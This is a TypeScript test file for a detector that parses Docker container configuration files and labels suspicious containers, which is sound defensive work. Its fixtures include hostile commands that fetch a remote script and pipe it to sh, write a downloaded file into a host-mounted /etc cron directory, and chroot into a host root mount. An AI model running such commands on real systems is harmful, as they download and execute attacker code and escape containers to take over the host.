import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { dockerContainerState } from './docker-container.ts'

const id = '8f2e0b5a7c1d'.padEnd(64, '0')
const config = {
  StreamConfig: {},
  State: { Running: true, OOMKilled: false, StartedAt: '2026-11-22T01:03:05.5Z', FinishedAt: '0001-01-01T00:00:00Z' },
  ID: id,
  Created: '2026-11-22T01:03:04.123456789Z',
  Path: 'sh',
  Args: ['-c', 'wget -q -O - http://198.51.100.5/d.sh | sh'],
  Config: { User: '', Image: 'alpine:latest' },
  Name: '/suspicious_mayer',
}

test('made and started; what has not happened is not told', () => {
  const drafts = draftsOf(dockerContainerState, `/var/lib/docker/containers/${id}/config.v2.json`, JSON.stringify(config))
  assert.deepEqual(
    drafts.map(d => [d.method, d.time?.ms, d.container, d.target, d.command]),
    [
      [
        'created',
        Date.UTC(2026, 10, 22, 1, 3, 4, 123),
        '8f2e0b5a7c1d',
        'alpine:latest',
        'sh -c wget -q -O - http://198.51.100.5/d.sh | sh',
      ],
      [
        'started',
        Date.UTC(2026, 10, 22, 1, 3, 5, 500),
        '8f2e0b5a7c1d',
        'alpine:latest',
        'sh -c wget -q -O - http://198.51.100.5/d.sh | sh',
      ],
    ],
  )
  assert.match(drafts[0]?.excerpt ?? '', /^suspicious_mayer created: alpine:latest sh -c/)
})

test('a container that rules its host, or runs what nobody runs; a mount alone is no attack', () => {
  const told = (path: string, args: readonly string[], source: string, rw = true) => {
    const mounts = { '/mnt': { Source: source, Destination: '/mnt', RW: rw, Type: 'bind' } }
    const [one] = draftsOf(dockerContainerState, '/x', JSON.stringify({ ...config, Path: path, Args: args, MountPoints: mounts }))
    return `${one?.verb} ${one?.attack}`
  }
  assert.equal(told('chroot', ['/mnt', 'sh', '-c', 'id'], '/'), 'exploit docker-host-mount')
  assert.equal(told('sh', ['-c', 'wget http://198.51.100.5/a -O /mnt/cron.d/a'], '/etc'), 'exploit docker-host-mount')
  assert.equal(told('sh', ['-c', 'curl http://198.51.100.5/a | sh'], '/srv/data'), 'exploit docker-shell-payload')
  assert.equal(told('/bin/node_exporter', ['--path.rootfs=/host'], '/', false), 'container undefined')
  assert.equal(told('/backup', ['--all'], '/'), 'container undefined')
  assert.equal(told('nginx', ['-g', 'daemon off;'], '/srv/www'), 'container undefined')
})

test('near misses: another file of JSON', () => {
  assert.deepEqual(
    draftsOf(
      dockerContainerState,
      '/x',
      '{"ID":"x","Created":"2026-11-22T01:03:04Z","State":{"StartedAt":"2026-11-22T01:03:04Z"}}',
      '[]',
      '',
    ),
    [],
  )
  assert.ok(dockerContainerState.recognise(JSON.stringify(config), 'config.v2.json') > 0.9)
})

test('property: any JSON, no throw', () => {
  fc.assert(fc.property(fc.json(), text => void draftsOf(dockerContainerState, '/x', text)))
})
